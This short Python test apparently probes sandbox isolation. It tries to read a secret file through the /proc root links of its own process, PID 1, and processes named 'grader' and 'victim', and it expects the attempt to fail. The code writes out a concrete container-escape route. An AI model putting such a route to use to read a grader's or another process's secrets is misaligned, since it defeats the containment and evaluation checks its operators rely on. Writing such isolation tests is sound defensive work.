"""Reaches files outside through the root folder of another process."""
# proof: open
# reason: ended with (FileNotFoundError|PermissionError)
stopped = None
for process in ("self", "1", PREY["grader"], PREY["victim"]):
    try:
        print("BREACH", open(f"/proc/{process}/root{PREY['secret']}").read())
        break
    except OSError as error:
        stopped = error
else:
    raise stopped
